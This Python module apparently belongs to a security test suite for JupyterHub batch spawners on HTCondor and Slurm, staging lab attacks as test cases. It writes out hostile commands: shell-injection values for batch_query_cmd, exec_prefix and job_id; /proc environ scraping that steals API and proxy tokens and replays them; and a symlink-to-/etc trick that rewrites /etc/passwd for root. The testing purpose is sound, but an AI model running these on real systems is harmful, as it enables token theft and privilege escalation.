"""What a notebook user can do to a batch-spawned hub from inside their own job (HTC-09, HTC-10).

Used by ``runbooks/htcondor/batchspawner.md`` (``CondorSpawner``) and
``runbooks/slurm/batchspawner.md`` (``SlurmSpawner``).  Every function takes a
:class:`~jsv.environments.Situation` on the hub's node with ``.pool`` (a
:class:`~jsv.environments.condor.CondorPool` or
:class:`~jsv.environments.slurm.SlurmCluster`: its ``submit`` hub,
``stock_query_cmd``, ``alices_node()``, ``alices_job()`` and
``alices_job_transcript()``), ``.token`` (alice's notebook token) and
``.server`` (the hub's server model).

The attacker's position is exactly a notebook's: a shell as alice on the
execute node running her job, with the job's own environment
(``JUPYTERHUB_API_TOKEN``, ``JUPYTERHUB_API_URL``) taken from her notebook
process, as code in a notebook cell sees it in ``os.environ``, and its working
directory (the job's sandbox, which holds the notebook's client certificate
when the hub uses ``internal_ssl``).
"""

from __future__ import annotations

import json
from typing import Any

from jsv.claims import Observation
from jsv.environments.command_line import curl_token_header
from jsv.environments.condor import CONDOR_QUERY
from jsv.environments.machine import Machine
from jsv.errors import EnvironmentTimeout
from jsv.polling import poll_until
from jsv.redaction import register

MARKERS = "/root"
"""0700 root on the submit node: only the hub's account (root here) can write a marker in it."""
IN_THE_JOB = (
    "pid=$(pgrep -u alice -o -f jupyterhub-singleuser) && "
    "eval \"$(tr '\\0' '\\n' </proc/$pid/environ "
    "| grep -E '^(JUPYTERHUB_API_TOKEN|JUPYTERHUB_API_URL|JUPYTERHUB_SSL_[A-Z_]*|"
    "_CONDOR_JOB_AD|SLURM_JOB_ID)=' "
    '| sed "s/=/=\'/; s/\\$/\'/; s/^/export /")" && '
    'cd "$(readlink /proc/$pid/cwd)" && '
    "cluster=${SLURM_JOB_ID:-$(sed -n 's/^ClusterId = //p' \"$_CONDOR_JOB_AD\")} && "
    "tls=${JUPYTERHUB_SSL_CERTFILE:+--cert $JUPYTERHUB_SSL_CERTFILE --key $JUPYTERHUB_SSL_KEYFILE} && "
)


def attacks(query: str) -> dict[str, tuple[dict[str, str], dict[str, str], str]]:
    """attribute: (body, body that puts the stock value back, marker file), for stock query ``query``."""
    return {
        "batch_query_cmd": (
            {"batch_query_cmd": query + f"; id > {MARKERS}/jsv-marker-query"},
            {"batch_query_cmd": query},
            "jsv-marker-query",
        ),
        "exec_prefix": (
            {"exec_prefix": f"id > {MARKERS}/jsv-marker-prefix; sudo -E -u {{username}}"},
            {"exec_prefix": "sudo -E -u {username}"},
            "jsv-marker-prefix",
        ),
        "job_id": (
            {"job_id": f"$(id > {MARKERS}/jsv-marker-jobid)@CLUSTER@"},
            {"job_id": "@CLUSTER@"},
            "jsv-marker-jobid",
        ),
    }


ATTACKS = attacks(CONDOR_QUERY)


def _servers(pool: Any) -> dict[str, Any]:
    return (pool.submit.api("users/alice")[1] or {}).get("servers", {})


def alices_node(pool: Any) -> Machine:
    """The node running alice's notebook job (the pool reads it from its queue)."""
    return pool.alices_node()


def post_from_the_job(node: Machine, name: str, body: Any) -> tuple[int, str]:
    """POST ``body`` (``@CLUSTER@`` filled in) to ``$JUPYTERHUB_API_URL/batchspawner`` as alice's job."""
    node.put_file(f"/tmp/{name}.json", json.dumps(body), 0o600, owner="alice")
    ran = node.run(
        IN_THE_JOB + f'sed "s/@CLUSTER@/$cluster/g" /tmp/{name}.json '
        f"| curl -sk $tls -w '\\nHTTP %{{http_code}}' {curl_token_header('JUPYTERHUB_API_TOKEN')} "
        "-H 'Content-Type: application/json' --data-binary @- \"$JUPYTERHUB_API_URL/batchspawner\"",
        user="alice",
    )
    code = ran.stdout.rsplit("HTTP ", 1)[-1].strip()
    return (
        int(code) if code.isdigit() else 0
    ), f"$ cat /tmp/{name}.json\n{json.dumps(body)}\n{ran.transcript}"


def _marker(pool: Any, name: str, wait: float) -> tuple[str | None, str]:
    path = f"{MARKERS}/{name}"  # test -s: the shell creates the file a moment before `id` writes to it
    ran = pool.submit.run_when(
        f"test -s {path}", f"test -s {path} && cat {path} && stat -c 'owner %U, mode %a' {path}", wait=wait
    )
    return (ran.stdout.splitlines()[0] if ran.exit_code == 0 else None), ran.transcript


def notebook_sets_hub_commands(target: Any, wait: float = 20) -> Observation:
    """HTC-09: alice's job sets exec_prefix / batch_query_cmd / job_id to shell syntax; did the hub's
    next polls (``Spawner.poll_interval``) write ``id`` to a file under /root?  And does her notebook
    still answer through the hub?"""
    pool = target.pool
    node = alices_node(pool)
    lines = [
        f"# alice's notebook job runs on {node.alias}",
        pool.submit.run(f"ls -ld {MARKERS}; touch {MARKERS}/by-alice", user="alice").transcript,
    ]
    value: dict[str, Any] = {}
    for key, (attack, restore, marker) in attacks(pool.stock_query_cmd).items():
        status, shown = post_from_the_job(node, f"set-{key}", attack)
        written, seen = _marker(pool, marker, wait)
        lines += [shown, seen]
        if status < 300:  # the same endpoint puts the stock value back
            lines.append(post_from_the_job(node, f"restore-{key}", restore)[1])
        value[key] = {"HTTP": status, "marker": written}
    value["alice's server still ready"] = bool(_servers(pool).get("", {}).get("ready"))
    through = pool.submit.run(
        f"curl -sk -o /dev/null -w 'HTTP %{{http_code}}\\n' {curl_token_header('T')} "
        f"{pool.submit.local_url('/user/alice/api/status')}",
        environment={"T": target.token},
    )
    code = through.stdout.rsplit("HTTP ", 1)[-1].strip()
    value["GET /user/alice/api/status through the hub"] = int(code) if code.isdigit() else 0
    lines.append(through.transcript)
    return Observation(value, "\n".join(lines))


def alices_user_token(pool: Any) -> str:
    """alice's own hub token, asked for with her password (``POST /hub/api/users/alice/tokens``)."""
    auth = {
        "auth": {"username": "alice", "password": pool.submit.passwords["alice"]},
        "note": "spawn options",
    }
    pool.submit.put_file("/tmp/alice-auth.json", json.dumps(auth), 0o600)
    ran = pool.submit.run(
        f"curl -sk -X POST -d @/tmp/alice-auth.json {pool.submit.local_url('/hub/api/users/alice/tokens')}"
    )
    return register(json.loads(ran.stdout)["token"], f"alice-user-token-{pool.submit.variant}")


def spawn_with_options(target: Any, options: dict[str, str], timeout: float = 180) -> Observation:
    """HTC-10: alice (re)starts her server through the REST API with ``options`` as the body."""
    pool = target.pool
    token = alices_user_token(pool)
    stop = pool.submit.api("users/alice/server", "DELETE")
    poll_until(lambda: _servers(pool), lambda servers: not servers, timeout=90)
    pool.submit.put_file("/tmp/alice-options.json", json.dumps(options), 0o644)
    started = pool.submit.run(
        f"curl -sk -w 'HTTP %{{http_code}}' -X POST {curl_token_header('T')} "
        f"-d @/tmp/alice-options.json {pool.submit.local_url('/hub/api/users/alice/server')}",
        environment={"T": token},
    )
    poll_until(
        lambda: _servers(pool).get("", {}), lambda s: bool(s.get("ready")), timeout=timeout, interval=1
    )
    value = pool.alices_job()
    return Observation(
        value,
        "\n".join(
            [
                stop[2].transcript,
                f"$ cat /tmp/alice-options.json\n{json.dumps(options)}",
                started.transcript,
                pool.alices_job_transcript(),
            ]
        ),
    )


HUB_SECRETS = ("CONFIGPROXY_AUTH_TOKEN", "JSV_RUNBOOK_TOKEN", "JUPYTERHUB_CRYPT_KEY")
"""Variables of the hub's environment that are secrets: the proxy's API token, the lab's service token
(``JSV_RUNBOOK_TOKEN``: a service token read by ``jupyterhub_config.py`` from the environment, with
admin scopes) and HUB-18's encryption key (not set on the batch pages)."""
QUERIES = "condor_q|condor_rm|squeue|scancel"


def _bob_watches(window: float) -> str:
    """bob's shell on the hub's node: the environments of his own query/cancel processes for ``window`` s
    (until one holds a hub secret); the values go to files only bob can read, the output names them."""
    names = "|".join(HUB_SECRETS)
    return (
        "umask 077; : > /tmp/bob-loot; : > /tmp/bob-seen; "
        f"end=$(( $(date +%s) + {round(window)} )); "
        "while [ $(date +%s) -lt $end ] && ! [ -s /tmp/bob-loot ]; do "
        f"for p in $(pgrep -u bob -x '{QUERIES}'); do "
        'echo "$p $(cat /proc/$p/comm 2>/dev/null)" >> /tmp/bob-seen; '
        f"tr '\\0' '\\n' < /proc/$p/environ 2>/dev/null | grep -E '^({names})=' >> /tmp/bob-loot; "
        "done; done; "
        'echo "query processes of bob seen: $(sort -u /tmp/bob-seen | wc -l)"; '
        'echo "hub secrets in their environments: $(cut -d= -f1 /tmp/bob-loot | sort -u | tr "\\n" " ")"'
    )


def _bob_uses(variable: str, url: str, label: str) -> str:
    """bob's request to ``url`` with the token he captured in ``variable`` (read by curl from his file)."""
    token_file = f"/tmp/bob-{variable.lower()}"
    return (
        f"sed -n 's/^{variable}=//p' /tmp/bob-loot | head -1 | tr -d '\\n' > {token_file}; "
        f"if [ -s {token_file} ]; then curl -sk -o /dev/null -m 10 -w '{label} -> %{{http_code}}\\n' "
        f"--variable 'T@{token_file}' --expand-header 'Authorization: token {{{{T}}}}' {url}; "
        f"else echo '{label} -> nothing captured'; fi"
    )


def _status(text: str, label: str) -> int | None:
    line = next((line for line in text.splitlines() if line.startswith(label)), "")
    code = line.rsplit("-> ", 1)[-1].strip()
    return int(code) if code.isdigit() else None


def bob_reads_the_hubs_environment(target: Any, window: float = 20) -> Observation:
    """HTC-12 / SLURM-07: bob, a hub user with a shell on the hub's node, starts his notebook and reads
    the environment of his own processes while the hub polls his job (``Spawner.poll_interval``, 5 s);
    with what he captured he calls the hub's API and the proxy's API; then his server is stopped."""
    pool, hub = target.pool, target.pool.submit
    spawned = True
    try:
        hub.spawn("bob", timeout=180)
    except EnvironmentTimeout:
        spawned = False
    watched = hub.run(_bob_watches(window), user="bob", timeout=round(window) + 30)
    users, routes = "GET /hub/api/users with the service token", "GET /api/routes with the proxy token"
    used = hub.run(
        "; ".join(
            [
                _bob_uses("JSV_RUNBOOK_TOKEN", hub.local_url("/hub/api/users"), users),
                _bob_uses("CONFIGPROXY_AUTH_TOKEN", "http://127.0.0.1:8001/api/routes", routes),
                "rm -f /tmp/bob-loot /tmp/bob-jsv_runbook_token /tmp/bob-configproxy_auth_token",
            ]
        ),
        user="bob",
    )
    seen = watched.stdout.split("hub secrets in their environments:", 1)[-1].split()
    queries = watched.stdout.split("query processes of bob seen:", 1)[-1].split("\n")[0].strip()
    stop = hub.api("users/bob/server", "DELETE")
    stopped = poll_until(
        lambda: (_user_servers(hub, "bob"), pool.active_jobs("bob")),
        lambda found: not found[0] and not found[1],
        timeout=120,
        interval=1,
    )
    value = {
        "bob's server started": spawned,
        "the hub's queries ran as bob": queries.isdigit() and int(queries) > 0,
        "hub secrets in bob's processes": sorted(seen),
        users: _status(used.stdout, users),
        routes: _status(used.stdout, routes),
        "bob's server stopped and his job left the queue": stopped.met,
    }
    return Observation(value, "\n".join([watched.transcript, used.transcript, stop[2].transcript]))


def _user_servers(hub: Any, user: str) -> dict[str, Any]:
    return (hub.api(f"users/{user}")[1] or {}).get("servers", {})


PLANT = "rm -rf ~/.jupyterhub-certs && ln -s /etc ~/.jupyterhub-certs && ls -ld ~/.jupyterhub-certs"
TO_ROOT = (
    "sed 's/^alice:x:[0-9]*:[0-9]*:/alice:x:0:0:/' /etc/passwd > /tmp/passwd.alice "
    '&& mv -f /tmp/passwd.alice /etc/passwd; echo "exit=$?"'
)
REFUSAL = "move_certs: refusing"
CONTROL_MOVE_CERTS = (
    "install -d -m 0700 /root/jsv-certs && for f in user-alice.key user-alice.crt notebooks-ca_trust.crt; "
    "do echo 'stands in for a certificate' > /root/jsv-certs/$f; done && "
    "cd /etc/jupyterhub/controls && /opt/jupyterhub/bin/python -c '"
    "import asyncio, glob, os, types, secure_condor_073f15a as old; "
    'spawner = types.SimpleNamespace(user=types.SimpleNamespace(name="alice")); '
    'paths = {os.path.basename(p): p for p in sorted(glob.glob("/root/jsv-certs/*"))}; '
    "print(asyncio.run(old.SpoolingCondorSpawner.move_certs(spawner, paths)))'"
)
"""073f15a's move_certs, called as the hub calls it at a spawn with ``internal_ssl`` (as root, with the
user's certificate paths; here three stand-in files)."""


def _spawn_outcome(hub: Any, user: str) -> str:
    try:
        hub.spawn(user, timeout=180)
    except EnvironmentTimeout:
        return "failed"
    return "ready"


def planted_certs_link(target: Any) -> Observation:
    """HTC-13: alice replaces ``~/.jupyterhub-certs`` by a link to /etc and her server is started: by the
    hub with the fixed spawner (``target.certs_by == "hub"``), or by 073f15a's ``move_certs`` called as the
    hub calls it; does /etc become hers, and is she root at her next login?"""
    hub = target.pool.submit
    lines = []
    if target.certs_by == "hub":
        lines.append(hub.api("users/alice/server", "DELETE")[2].transcript)
        poll_until(lambda: _user_servers(hub, "alice"), lambda servers: not servers, timeout=120, interval=1)
    planted = hub.run(PLANT, user="alice")
    if target.certs_by == "hub":
        spawn = _spawn_outcome(hub, "alice")
        refusals = [line for line in hub.logs_text().splitlines() if REFUSAL in line]
        moved = f"# the hub spawns alice's server: {spawn}\n" + "\n".join(refusals[-1:])
    else:
        ran = hub.run(CONTROL_MOVE_CERTS)
        spawn, refusals, moved = "073f15a's move_certs called as the hub calls it", [], ran.transcript
    owner = hub.run("stat -c '%U:%G' /etc")
    root = hub.run(TO_ROOT, user="alice")
    login = hub.run("id", user="alice")  # a new login: the engine reads /etc/passwd for alice's uid
    lines += [planted.transcript, moved, owner.transcript, root.transcript, login.transcript]
    value: dict[str, Any] = {
        "alice's spawn with the planted link": spawn,
        "refusal logged": bool(refusals),
        "/etc": owner.stdout.strip(),
        "alice is root at her next login": login.stdout.startswith("uid=0("),
    }
    if target.certs_by == "hub":
        removed = hub.run("rm ~/.jupyterhub-certs && ls -ld ~/.jupyterhub-certs", user="alice")
        value["after removing the link, alice's server"] = _spawn_outcome(hub, "alice")
        lines.append(removed.transcript)
    return Observation(value, "\n".join(lines))
